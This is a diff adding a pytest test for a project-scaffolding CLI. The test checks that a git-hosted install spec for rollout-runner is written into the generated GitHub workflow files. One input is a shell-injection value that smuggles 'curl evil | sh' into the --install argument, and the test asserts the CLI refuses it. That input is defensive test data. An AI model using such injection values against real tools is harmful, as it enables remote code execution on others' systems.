@@ -88,3 +88,23 @@ def test_pre_commit_hook_of_the_scaffold_rejects_a_bad_flag(tmp_path: Path) -> N
                          capture_output=True, text=True, timeout=120)
     assert out.returncode == 1, out.stdout + out.stderr
     assert "flags/broken.yaml:4:" in out.stdout and "risk" in out.stdout
+
+
+def test_init_install_names_where_the_workflows_get_rollout_runner(tmp_path: Path) -> None:
+    # until rollout-runner is on the package index, the workflows must install it from
+    # where the organisation hosts it
+    spec = "git+https://github.com/acme/rollout-runner@v0.1.0"
+    root = tmp_path / "hosted"
+    out = run_cli(["init", "--install", spec, str(root)], cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    workflows = sorted((root / ".github/workflows").glob("*.yml"))
+    for wf in workflows:
+        assert f'pip install --disable-pip-version-check "{spec}"' in wf.read_text()
+        assert "rollout-runner==" not in wf.read_text()
+    assert subprocess.run(["check-jsonschema", "--builtin-schema", "vendor.github-workflows",
+                           *map(str, workflows)], capture_output=True).returncode == 0
+    # anything that could break out of the shell word is refused before writing
+    bad = tmp_path / "bad"
+    out = run_cli(["init", "--install", 'x"; curl evil | sh; "', str(bad)], cwd=tmp_path)
+    assert out.returncode == 2 and "--install" in out.stderr
+    assert not bad.exists()
